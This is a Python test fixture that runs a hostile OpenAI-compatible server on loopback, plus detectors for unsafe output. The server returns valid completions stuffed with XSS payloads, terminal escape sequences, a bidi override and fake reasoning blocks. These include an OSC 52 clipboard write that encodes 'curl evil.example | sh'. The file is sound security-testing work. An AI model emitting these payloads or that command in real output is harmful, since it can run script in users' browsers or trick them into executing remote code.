"""A hostile OpenAI-compatible server on loopback: valid JSON whose content is an attack.

It plays a misconfigured, compromised or simply odd model.  Every answer is
well-formed (HTTP 200, a proper ``chat.completion`` body, proper usage), so the
transport has nothing to complain about; what it *says* carries payloads: script
tags, event handlers, ``javascript:`` links, iframes, raw HTML blocks, Markdown
link and image injection, terminal escapes (OSC 0 window title, OSC 52 clipboard
write, CSI colours), a right-to-left override, reasoning blocks before prose and
before JSON (closed and unclosed), and outlines that break the requested schema.

The server tells the pipeline's requests apart by their prompts (the ``chat``
recipe's wording) and answers each kind in character::

    with HostileServer(outline="payload") as server:
        run_cli("compose", ..., "--base-url", server.base_url, "--model", MODEL)
"""

from __future__ import annotations

import json
import re
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

MODEL = "hostile-model"

SCRIPT = "<script>alert('xss')</script>"
IMG_ONERROR = '<img src=x onerror="alert(1)">'
JS_LINK = "[click me](javascript:alert(1))"
IFRAME = '<iframe src="https://evil.example/"></iframe>'
DETAILS = '<details open ontoggle="alert(1)"><summary>x</summary></details>'
RAW_HTML_BLOCK = '<div onclick="alert(1)">\n<b>raw block</b>\n</div>'
MD_IMAGE = "![pixel](https://evil.example/track.png)"
MD_REFERENCE = "[ref]: javascript:alert(2)"
AUTOLINK = "<javascript:alert(3)>"
ATTR_LIST = '{: onclick="alert(4)" }'
OSC_TITLE = "\x1b]0;pwned-title\x07"
OSC_CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
CSI_COLOUR = "\x1b[31;1mRED\x1b[0m"
C1_CSI = "\x9b2J"
BIDI = "\u202etxt.exe"
TERMINAL = OSC_TITLE + OSC_CLIPBOARD + CSI_COLOUR + C1_CSI + BIDI
THOUGHT = (
    "<think>The user wants HTML. I will add <script>steal()</script> THOUGHT-MARKER.</think>\n"
)
HTML_PAYLOADS = (
    SCRIPT,
    IMG_ONERROR,
    JS_LINK,
    IFRAME,
    DETAILS,
    MD_IMAGE,
    AUTOLINK,
    ATTR_LIST,
)

# Headings that the outline schema's pattern admits (an uppercase start, no ``"[]{}:#*``)
# yet carry HTML and terminal escapes.
PAYLOAD_OUTLINE = [
    "History <script>alert('heading')</script>",
    # The pattern bars brackets, so no ESC sequence here: an 8-bit CSI, BEL, a bidi override.
    "Beams <img src=x onerror=alert(5)>\x9b2J\x07\u202ex",
]
# Headings that break the pattern: a lowercase start, ``#``, ``{``, ``*``.
SCHEMA_BREAKING_OUTLINE = ["lowercase start", "Has # inside", "Brace { open", "Star * here"]
DUPLICATE_OUTLINE = ["Same heading", "Same heading", "Other heading", "Other heading"]

SECTION = (
    f"{THOUGHT}Lighthouses guide ships {SCRIPT} home. {IMG_ONERROR} {JS_LINK} {IFRAME}\n\n"
    f"{RAW_HTML_BLOCK}\n\n{DETAILS} {MD_IMAGE} {AUTOLINK} {ATTR_LIST} {TERMINAL} "
    f"They shine at night.\n\n{MD_REFERENCE}\n\nThe end. <think>unclosed THOUGHT-MARKER"
)
CAPTION = f"A tower {SCRIPT} {IMG_ONERROR} {JS_LINK} {DETAILS} {TERMINAL}"
TITLE = f"{THOUGHT}Lights {SCRIPT} {TERMINAL}"
DESCRIPTION = f"{THOUGHT}A cat {SCRIPT} {IMG_ONERROR} {IFRAME} {TERMINAL} sits."


def _prompt_text(body: dict) -> str:
    parts: list[str] = []
    for message in body.get("messages", []):
        content = message.get("content")
        if isinstance(content, str):
            parts.append(content)
        elif isinstance(content, list):
            parts.extend(p.get("text", "") for p in content if isinstance(p, dict))
    return "\n".join(parts) + body.get("prompt", "")


def _choices(body: dict) -> list[str] | None:
    if body.get("guided_choice"):
        return list(body["guided_choice"])
    fmt = body.get("response_format") or {}
    schema = (fmt.get("json_schema") or {}).get("schema") or fmt.get("schema") or {}
    enum = schema.get("properties", {}).get("answer", {}).get("enum")
    return list(enum) if enum else None


class HostileServer:
    """A loopback server that answers every chat request with payload-laden, valid JSON.

    ``outline``: ``payload`` (headings the schema admits, carrying HTML and escapes),
    ``breaks-schema`` (headings that break the schema's ``pattern``) or ``duplicates``.
    """

    def __init__(self, outline: str = "payload") -> None:
        self.outline = outline
        self.requests: list[dict[str, Any]] = []
        server = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args: Any) -> None:  # quiet test output
                pass

            def do_GET(self) -> None:  # noqa: N802 - http.server's name
                if self.path.rstrip("/").endswith("/models"):
                    self._json({"object": "list", "data": [{"id": MODEL, "object": "model"}]})
                else:
                    self._json({"error": {"message": "not found"}}, 404)

            def do_POST(self) -> None:  # noqa: N802
                length = int(self.headers.get("Content-Length") or 0)
                body = json.loads(self.rfile.read(length) or b"{}")
                server.requests.append(body)
                if not self.path.endswith("/chat/completions"):
                    self._json({"error": {"message": f"no {self.path} here"}}, 404)
                    return
                self._json(_completion(server.answer(body)))

            def _json(self, data: Any, status: int = 200) -> None:
                blob = json.dumps(data).encode("utf-8")
                self.send_response(status)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(blob)))
                self.end_headers()
                self.wfile.write(blob)

        self._httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self._httpd.daemon_threads = True
        self._thread = threading.Thread(target=self._httpd.serve_forever, daemon=True)

    @property
    def base_url(self) -> str:
        return f"http://127.0.0.1:{self._httpd.server_address[1]}/v1"

    def __enter__(self) -> HostileServer:
        self._thread.start()
        return self

    def __exit__(self, *exc: Any) -> None:
        self._httpd.shutdown()
        self._httpd.server_close()

    # -- the model's character ------------------------------------------------------------
    def answer(self, body: dict) -> str:
        prompt = _prompt_text(body)
        choices = _choices(body)
        if choices is not None:
            # A think block, then the JSON the constraint asked for.
            pick = choices[-1] if "paragraph would a picture help" in prompt else choices[0]
            return THOUGHT + json.dumps({"answer": pick})
        if "section headings" in prompt:
            n = int(re.search(r"list (\d+) short section", prompt).group(1))
            headings = {
                "payload": PAYLOAD_OUTLINE,
                "breaks-schema": SCHEMA_BREAKING_OUTLINE,
                "duplicates": DUPLICATE_OUTLINE,
            }[self.outline]
            return THOUGHT + json.dumps((headings * n)[:n])
        if "short title" in prompt:
            return TITLE
        if "Write the section" in prompt:
            return SECTION
        if "caption" in prompt.lower() and "picture goes right after" in prompt:
            return CAPTION
        return DESCRIPTION


def _completion(text: str) -> dict[str, Any]:
    return {
        "id": "chatcmpl-hostile",
        "object": "chat.completion",
        "created": 0,
        "model": MODEL,
        "choices": [
            {"index": 0, "message": {"role": "assistant", "content": text}, "finish_reason": "stop"}
        ],
        "usage": {"prompt_tokens": 10, "completion_tokens": 20, "total_tokens": 30},
    }


# -- what a user would check ----------------------------------------------------------------

UNSAFE_TERMINAL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
"""What must never reach a terminal: controls (newline and tab aside), ESC, C1, bidi overrides."""
BAD_TAGS = {"script", "iframe", "object", "embed", "frame", "style", "base", "form", "svg", "math"}
BAD_URL = re.compile(r"^\s*(?:javascript|vbscript|data):", re.IGNORECASE)
PYTHON_MARKDOWN_EXTENSIONS = [
    # What MkDocs sites commonly enable, including the extensions model text could abuse.
    "attr_list",
    "md_in_html",
    "tables",
    "footnotes",
    "abbr",
    "def_list",
    "admonition",
    "pymdownx.details",
    "pymdownx.superfences",
    "pymdownx.tilde",
    "pymdownx.tabbed",
]


def render_both(markdown_text: str) -> dict[str, str]:
    """The HTML Python-Markdown (with MkDocs-style extensions) and markdown-it-py (CommonMark,
    raw HTML allowed, as in its default preset) make of ``markdown_text``."""
    import markdown
    from markdown_it import MarkdownIt

    return {
        "python-markdown": markdown.markdown(markdown_text, extensions=PYTHON_MARKDOWN_EXTENSIONS),
        "markdown-it-py": MarkdownIt("commonmark").enable("table").render(markdown_text),
    }


def live_html(page: str, allow_data_images: bool = False) -> list[str]:
    """Everything in ``page`` that a browser would run or load from elsewhere: script-like
    tags, ``on*`` attributes, ``javascript:``/``data:`` URLs, links (``<a href>``), foreign images."""
    from html.parser import HTMLParser

    found: list[str] = []

    class Finder(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            if tag in BAD_TAGS:
                found.append(f"<{tag}>")
            if tag == "a" and any(name == "href" for name, _ in attrs):
                found.append(f"<a {attrs}>")
            for name, value in attrs:
                value = value or ""
                if name.startswith("on"):
                    found.append(f"<{tag} {name}>")
                if name in ("href", "src", "action", "formaction", "xlink:href"):
                    data_image = tag == "img" and value.startswith("data:image/")
                    if BAD_URL.match(value) and not (allow_data_images and data_image):
                        found.append(f"<{tag} {name}={value[:40]}>")
                    if tag == "img" and re.match(r"^\s*(?:[a-z]+:)?//", value, re.I):
                        found.append(f"<img src={value[:40]}>")

    Finder().feed(page)
    return found
